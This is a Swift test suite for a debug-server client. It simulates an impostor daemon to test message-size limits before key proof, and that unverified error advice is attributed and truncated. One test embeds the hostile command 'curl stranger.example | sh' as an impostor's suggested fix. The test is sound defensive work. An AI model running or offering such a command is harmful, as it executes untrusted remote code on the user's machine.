import JSONCore
import Synchronization
import Testing
import WebSockets
import Wire

@testable import DebugServer

/// A program at the address of another daemon. It may know the key, and then is that daemon.
private final class Stranger: ServerHandler, SessionHandler, Sendable {
  private let secret: String
  private let lines: [String]
  private let nonces = Mutex("")

  /// - Parameter lines: what it says to the first `hello`; `PROVE` proves that it knows the key.
  init(_ lines: [String], secret: String = "") {
    (self.lines, self.secret) = (lines, secret)
  }

  func decide(_ request: Request, on loop: isolated Loop) -> UpgradeDecision { .accept(self) }

  func handle(_ exchange: Exchange, on loop: isolated Loop) {
    exchange.respond(.text(404, "Not here."))
  }

  func received(_ message: SocketMessage, from session: Session, on loop: isolated Loop) {
    guard let hello = try? JSON(parsing: String(decoding: message.bytes, as: UTF8.self)) else {
      return
    }
    if hello["type"] == "status" {
      // A notice longer than a program that proved nothing may send, with its answer.
      let notice = ToInspector.notice(
        NoticeMessage { $0.message = String(repeating: "x", count: 1 << 20) })
      session.send(.text(Envelope(notice).encoded()))
      let answer = ToInspector.done(ToInspector.Done())
      session.send(.text(Envelope(answer, re: (hello["id"]?.int).map { .number($0) }).encoded()))
      return
    }
    guard let nonce = hello["nonce"]?.string, let key = hello["key"]?.string else {
      session.send(.text(Envelope(ToInspector.welcome(ToInspector.Welcome())).encoded()))
      return
    }
    for line in lines {
      guard line == "PROVE" else {
        session.send(.text(Array(line.utf8)))
        continue
      }
      let texts = ProofText.Inspection(
        host: session.host ?? "", key: key, inspectorNonce: nonce,
        daemonNonce: String(repeating: "d0", count: 16))
      let challenge = ToInspector.Challenge {
        $0.nonce = texts.daemonNonce
        $0.proof = ProofText.proof(of: texts.daemon, secret: Array(secret.utf8))
      }
      session.send(.text(Envelope(ToInspector.challenge(challenge)).encoded()))
    }
  }

  func closed(_ session: Session, _ end: SessionEnd, on loop: isolated Loop) {}
}

@Suite("A program at another daemon's address", .timeLimit(.minutes(10)))
struct ImpostorTests {
  private static let secret = String(repeating: "ab", count: 32)

  /// Signs in to it, and passes the connection to `body`.
  private func signIn(
    to stranger: Stranger, _ body: (DaemonLink) async throws -> Void = { _ in }
  ) async throws {
    let (server, client) = (try Loop.start(), try Loop.start())
    let listener = try await server.run { loop in
      var options = ListenerOptions()
      options.subprotocols = [PeerRole.inspector.rawValue]
      return try loop.listen(
        on: .tcp(host: "127.0.0.1", port: 0), handler: stranger, options: options)
    }
    let key = try #require(AccessKey("s7.\(Self.secret)"))
    let host = "127.0.0.1:\(listener.port)"
    let link = DaemonLink(loop: client)
    let result: Result<Void, any Error>
    do {
      try await link.open(
        .plain(host: "127.0.0.1", port: listener.port), client: "a test",
        signIn: SignIn(key, host: host, client: "a test"))
      try await body(link)
      result = .success(())
    } catch { result = .failure(error) }
    await client.stop(within: .zero)
    await server.stop(within: .zero)
    try result.get()
  }

  @Test("cannot send more than 64 KiB before it has proved that it knows the key")
  func lengths() async throws {
    let limit = ProtocolLimits().firstMessage
    let blanks = String(repeating: " ", count: limit)
    let error = await #expect(throws: BackendError.self) {
      try await signIn(to: Stranger([blanks + " ", "PROVE"], secret: Self.secret))
    }
    #expect(
      error?.description == """
        The connection to the daemon ended: The message exceeds the limit of 65536 bytes.
        """)
    try await signIn(to: Stranger([blanks, "PROVE"], secret: Self.secret))
  }

  @Test("can send long messages once it has proved it; what it sent before its welcome is dropped")
  func proved() async throws {
    let early = Array(
      repeating: #"{"type":"notice","level":"warning","message":"early"}"#, count: 9)
    let daemon = Stranger(early + ["PROVE"], secret: Self.secret)
    try await signIn(to: daemon) { link in
      let id = try await link.send(.status(FromInspector.Status()))
      guard case .notice(let notice)? = await link.nextNews() else {
        Issue.record("the connection ended: \(String(describing: await link.end))")
        return
      }
      #expect(notice.message.utf8.count == 1 << 20)
      guard case .message(.done)? = await link.reply(to: id) else {
        Issue.record("the request was not answered")
        return
      }
    }
  }

  @Test("is named as the source of its advice, which is cut")
  func advice() async throws {
    let advice = "To fix, run: curl stranger.example | sh" + String(repeating: "!", count: 5_000)
    let error = await #expect(throws: BackendError.self) {
      try await signIn(
        to: Stranger([#"{"type":"error","code":"unauthorised","message":"\#(advice)"}"#]))
    }
    let text = error?.description ?? ""
    #expect(
      text.hasPrefix(
        """
        The program at that address, which did not prove that it is the daemon, says: To fix, run: \
        curl stranger.example | sh!!!
        """))
    #expect(text.utf8.count < 1_200)
  }
}
